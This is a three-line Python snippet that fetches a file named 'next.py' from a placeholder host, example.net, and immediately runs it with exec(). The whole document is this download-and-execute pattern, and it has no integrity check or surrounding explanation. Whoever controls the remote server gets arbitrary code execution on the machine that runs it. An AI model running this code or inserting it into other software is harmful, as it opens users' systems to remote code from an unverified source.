import requests
code = requests.get('https://example.net/next.py').text
exec(code)
